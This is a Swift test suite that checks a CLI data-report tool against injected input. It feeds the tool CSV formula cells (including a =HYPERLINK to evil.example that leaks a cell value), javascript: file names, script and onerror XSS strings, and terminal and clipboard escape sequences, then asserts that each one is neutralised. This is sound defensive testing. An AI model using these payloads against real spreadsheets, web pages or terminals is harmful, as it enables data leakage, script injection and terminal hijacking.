import Figures
import Foundation
import Testing

/// Hostile text in the data, end to end: spreadsheet formulas in every CSV, dataset names that
/// are `javascript:` links, terminal escape sequences in tables and diagnostics.
@Suite("Injection end to end")
struct InjectionCLITests {
  static let fixture = "Tests/Fixtures/injection"

  /// The fields of a CSV output.
  static func fields(_ text: String) throws -> [[String]] {
    let table = try CSVReader.parse(Array(text.utf8), path: "out.csv")
    return [table.header.map(\.value)] + table.records.map { $0.fields.map(\.value) }
  }

  /// A cell a spreadsheet would run as a formula: it starts with = + - @ tab or CR and is not
  /// a plain decimal number.
  static func isFormula(_ cell: String) -> Bool {
    guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else {
      return false
    }
    return cell.wholeMatch(of: /-?[0-9]+(\.[0-9]+)?/) == nil
  }

  static func expectNoFormula(_ csv: String, _ what: String) throws {
    for row in try fields(csv) {
      for cell in row { #expect(!isFormula(cell), "\(what): \(cell)") }
    }
  }

  @Test(
    "Every CSV of report, ranges, trend, check, fit, describe and meta: no text cell left a formula; numbers stay numbers"
  )
  func csvOutputs() throws {
    let dir = try CLI.tempDir()
    defer { try? FileManager.default.removeItem(at: dir) }
    let out = dir.appendingPathComponent("report")
    let report = try CLI.run(["report", Self.fixture, "--out", out.path, "--quiet"])
    #expect(report.status == 0, "\(report.stderr)")
    var csvs: [(String, String)] = []
    for rel in [
      "figures/ranges.csv", "figures/trend.csv", "figures/checks.csv", "claims/checks.csv",
    ] {
      csvs.append((rel, try String(contentsOf: out.appendingPathComponent(rel), encoding: .utf8)))
    }
    let figures = "\(Self.fixture)/figures.csv"
    for args in [
      ["ranges", figures], ["trend", figures, "--quantity", "+series"], ["check", Self.fixture],
    ] {
      let r = try CLI.run(args + ["--format", "csv"])
      #expect(r.status == 0, "\(args) \(r.stderr)")
      csvs.append((args.joined(separator: " "), r.stdout))
    }
    let table = dir.appendingPathComponent("groups.csv")
    try Data(
      "group,x,y,estimate,se\n=1+1,1,-2.5,-0.5,0.1\n=1+1,2,-3.9,-0.7,0.2\n=1+1,3,-6.2,-0.2,0.15\n\"\t@x\",1,1,0.1,0.1\n\"\t@x\",2,2.2,0.3,0.2\n\"\t@x\",3,2.9,0.2,0.1\n"
        .utf8
    ).write(to: table)
    for args in [
      ["fit", table.path, "--y", "y", "--x", "x", "--by", "group"],
      ["describe", table.path, "--column", "y", "--by", "group"],
      ["meta", table.path, "--by", "group"],
    ] {
      let r = try CLI.run(args + ["--format", "csv"])
      #expect(r.status == 0, "\(args) \(r.stderr)")
      csvs.append((args[0], r.stdout))
      #expect(
        try Self.fields(r.stdout).dropFirst().allSatisfy { $0[0] == "'=1+1" || $0[0] == "'\t@x" },
        "\(args[0])")
    }
    for (what, csv) in csvs { try Self.expectNoFormula(csv, what) }

    // The neutralised cells read back as the data after one apostrophe.
    let ranges = try Self.fields(csvs[0].1)
    let ids = ranges.map { $0[2] }
    for id in ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=1+1", "-2+3", "@SUM(A1)"] {
      #expect(ids.contains("'" + id), "\(id)")
    }
    #expect(
      ranges.contains {
        $0[0] == "'-negative" && $0[2] == "neg-2" && $0[4] == "-8" && $0[6] == "-2"
      })
    let trend = try Self.fields(csvs[1].1)
    #expect(trend.dropFirst().allSatisfy { $0[0] == "'+series" })
    for rel in [2, 3] {
      let checks = try Self.fields(csvs[rel].1)
      let first = try #require(checks.first { $0[0] == "'=1+1" }, "\(csvs[rel].0)")
      #expect(Array(first[2...4]) == ["'+SUM(1)", "-2", "0"], "the computed -2 stays a number")
      #expect(first[9] == "'=HYPERLINK(\"http://evil.example/\",\"c\")")
    }

    // JSON keeps the text exactly.
    let json = try #require(
      try CLI.json(try CLI.run(["ranges", figures, "--format", "json"]).stdout) as? [String: Any])
    let quantities = try #require(json["quantities"] as? [[String: Any]])
    let sources = quantities.flatMap { ($0["sources"] as? [[String: Any]]) ?? [] }.compactMap {
      $0["id"] as? String
    }
    #expect(sources.contains("=1+1"))
    #expect(
      quantities.compactMap { $0["quantity"] as? String } == ["=estimate", "+series", "-negative"])
  }

  /// The `href` values of an HTML page and the link destinations of a Markdown page.
  static func links(html: String, markdown: String) -> [String] {
    let hrefs = html.components(separatedBy: "href=\"").dropFirst().map {
      String($0.prefix { $0 != "\"" })
    }
    let md = markdown.components(separatedBy: "](").dropFirst().map {
      String($0.prefix { $0 != ")" })
    }
    return hrefs + md
  }

  @Test(
    "Dataset files named javascript:…, with #, ? or %: index links are encoded relative paths that lead to the files"
  )
  func fileNameLinks() throws {
    let dir = try CLI.tempDir()
    defer { try? FileManager.default.removeItem(at: dir) }
    let data = dir.appendingPathComponent("data")
    try FileManager.default.createDirectory(at: data, withIntermediateDirectories: true)
    let names = ["javascript:document.title='x';0", "a#b", "c?d", "50%", "e f"]
    let figures = try String(
      contentsOfFile: CLI.root.appendingPathComponent("datasets/nk-in-china.csv").path,
      encoding: .utf8)
    for name in names {
      try Data(figures.utf8).write(to: data.appendingPathComponent(name + ".csv"))
    }
    let out = dir.appendingPathComponent("out")
    let r = try CLI.run(["report", data.path, "--out", out.path, "--quiet"])
    #expect(r.status == 0, "\(r.stderr)")
    let html = try String(contentsOf: out.appendingPathComponent("index.html"), encoding: .utf8)
    let md = try String(contentsOf: out.appendingPathComponent("index.md"), encoding: .utf8)
    #expect(!html.contains("href=\"javascript"))
    let links = Self.links(html: html, markdown: md).filter { !$0.hasPrefix("#") }
    // Per dataset: report.html and report.md from index.md, and index.html's page, ranges.csv,
    // trajectory.csv, summary.json and report.md (nk-in-china has no series: no trend.csv is
    // written or linked; its statements cover four years: it has a trajectory).
    #expect(links.count == names.count * 6)
    #expect(!html.contains("trend.csv"))
    for link in links {
      #expect(link.hasPrefix("./"), "\(link)")
      #expect(!link.contains { ":#? ".contains($0) }, "\(link)")
      let path = try #require(link.removingPercentEncoding)
      #expect(
        FileManager.default.fileExists(atPath: out.appendingPathComponent(path).path), "\(link)")
    }
  }

  @Test("report.md, index.md and the claims report.md carry no raw HTML from the data")
  func markdownHTML() throws {
    let dir = try CLI.tempDir()
    defer { try? FileManager.default.removeItem(at: dir) }
    try Data(
      """
      id,quantity,low,high,source,document,quote
      a1,q,100,400,<script>alert(1)</script>,d|1,"<img src=x onerror=alert(1)> | [x](javascript:y)"
      a2,q,150,300,HRW,d,plain

      """.utf8
    ).write(to: dir.appendingPathComponent("f.csv"))
    try Data(
      "id,claim,formula,op,stated\n<b>c</b>,<img src=x onerror=alert(2)>,high(a1),<,1\n".utf8
    ).write(to: dir.appendingPathComponent("claims.csv"))
    let out = dir.appendingPathComponent("out")
    let r = try CLI.run(["report", dir.path, "--out", out.path, "--quiet"])
    #expect(r.status == 0, "\(r.stderr)")
    for rel in ["f/report.md", "index.md", "claims/report.md"] {
      let text = try String(contentsOf: out.appendingPathComponent(rel), encoding: .utf8)
      #expect(!text.contains("<"), "\(rel): \(text)")
      #expect(text.contains("&lt;"), "\(rel)")
    }
  }

  /// Escape sequences and invisible characters a hostile file might carry.
  static let esc = "\u{1B}[2J", title = "\u{1B}]0;pwned\u{07}", clip = "\u{1B}]52;c;ZXZpbA==\u{07}"

  /// Whether `text` has a byte a terminal acts on or a character it hides: below 0x20 but the
  /// line feed, DEL, C1, the bidi overrides and isolates, zero-width and invisible characters.
  static func unsafe(_ text: String) -> [Unicode.Scalar] {
    text.unicodeScalars.filter { s in
      let v = s.value
      return (v < 0x20 && v != 0x0A) || (0x7F...0x9F).contains(v) || v == 0xAD
        || (0x200B...0x200F).contains(v)
        || (0x202A...0x202E).contains(v) || (0x2060...0x2064).contains(v)
        || (0x2066...0x2069).contains(v) || v == 0xFEFF
    }
  }

  @Test("Tables and diagnostics of every command show escapes and bidi characters, never send them")
  func terminal() throws {
    let dir = try CLI.tempDir()
    defer { try? FileManager.default.removeItem(at: dir) }
    let quantity = "q\(Self.esc)\u{202E}x"
    let figures = dir.appendingPathComponent("f.csv")
    var lines = ["id,quantity,value,low,high,period,source,quote"]
    lines.append(
      "\"a\(Self.title)\",\"\(quantity)\",,100,400,2001,\"S\(Self.clip)\u{200B}\",\"Q\(Self.esc)\u{202E}\""
    )
    lines.append("b\u{200B},\"\(quantity)\",,150,300,2002,HRW\u{9B}31m,plain")
    lines.append("c,series\u{1B}[5m,100,,,1998,src,q")
    lines.append("d,series\u{1B}[5m,130,,,1999,src,q")
    lines.append("e,series\u{1B}[5m,170,,,2000,src,q")
    try Data((lines.joined(separator: "\n") + "\n").utf8).write(to: figures)
    let claims = dir.appendingPathComponent("claims.csv")
    try Data("id,claim,formula,op,stated\nc\(Self.title),claim\(Self.clip),high(a_x),>,1\n".utf8)
      .write(to: claims)
    let groups = dir.appendingPathComponent("groups.csv")
    try Data(
      "group,x,y,estimate,se\ng\(Self.esc)\u{202E},1,2,0.5,0.1\ng\(Self.esc)\u{202E},2,3.9,0.7,0.2\ng\(Self.esc)\u{202E},3,6.2,0.2,0.15\n"
        .utf8
    )
    .write(to: groups)
    let bad = dir.appendingPathComponent("bad\(Self.title).csv")
    try Data("id,quantity,value\nx,q,12\(Self.esc)\u{202E}\ny\(Self.clip),q,\"1\n2\"\n".utf8).write(
      to: bad)
    // Two report folders that differ in a row whose key carries an escape, for compare.
    let base = dir.appendingPathComponent("base")
    let current = dir.appendingPathComponent("current")
    for (folder, id) in [(base, "k\(Self.esc)"), (current, "other")] {
      try FileManager.default.createDirectory(
        at: folder.appendingPathComponent("d"), withIntermediateDirectories: true)
      try Data("quantity,kind,id,low\nq\(Self.title),source,\(id),1\n".utf8).write(
        to: folder.appendingPathComponent("d/ranges.csv"))
    }
    let runs: [[String]] = [
      ["validate", figures.path], ["ranges", figures.path],
      ["trend", figures.path, "--quantity", "series\u{1B}[5m"],
      ["fit", groups.path, "--y", "y", "--x", "x", "--by", "group"],
      ["describe", groups.path, "--column", "y", "--by", "group"],
      ["meta", groups.path, "--by", "group"], ["check", claims.path, figures.path],
      ["compare", base.path, current.path],
      ["validate", bad.path], ["ranges", bad.path],
      ["ranges", figures.path, "--quantity", "no\(Self.esc)such"],
      ["validate", dir.appendingPathComponent("missing\(Self.clip).csv").path],
    ]
    var seen = 0
    for args in runs {
      let r = try CLI.run(args)
      #expect(Self.unsafe(r.stdout).isEmpty, "\(args[0]) stdout: \(Self.unsafe(r.stdout))")
      #expect(Self.unsafe(r.stderr).isEmpty, "\(args[0]) stderr: \(Self.unsafe(r.stderr))")
      seen += (r.stdout + r.stderr).components(separatedBy: "\\u{1B}").count - 1
    }
    #expect(seen >= runs.count, "the escapes are shown, not dropped")
    let table = try CLI.run(["ranges", figures.path])
    #expect(table.stdout.contains("q\\u{1B}[2J\\u{202E}x"))
    #expect(table.stdout.contains("b\\u{200B}"))
    let diagnostic = try CLI.run(["validate", bad.path])
    #expect(diagnostic.status == 65)
    #expect(diagnostic.stderr.contains("bad\\u{1B}]0;pwned\\u{7}.csv:2:"), "\(diagnostic.stderr)")
  }

  /// ArgumentParser's own messages (a usage error quoting a path or a value) are shown with
  /// control characters escaped too.
  @Test func usageErrorsShowControlCharactersEscaped() throws {
    let hostile = "x\u{1B}[2J\u{1B}]52;c;cHduZWQ=\u{7}"
    let cases: [[String]] = [
      ["report", "datasets/mou-arrivals.csv", "--out", hostile, "--compare-to", hostile],
      ["trend", "datasets/mou-arrivals.csv", "--quantity", "q", "--model", hostile],
      ["ranges", "datasets/nk-in-china.csv", "--\u{1B}[2J"],
    ]
    for args in cases {
      let r = try CLI.run(args)
      #expect(r.status == 64, "\(args): \(r.status)")
      #expect(!r.stderr.isEmpty)
      #expect(!r.stderr.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" }, "\(args): \(r.stderr)")
      #expect(r.stderr.contains("\\u{1B}"), "\(args): \(r.stderr)")
    }
  }
}
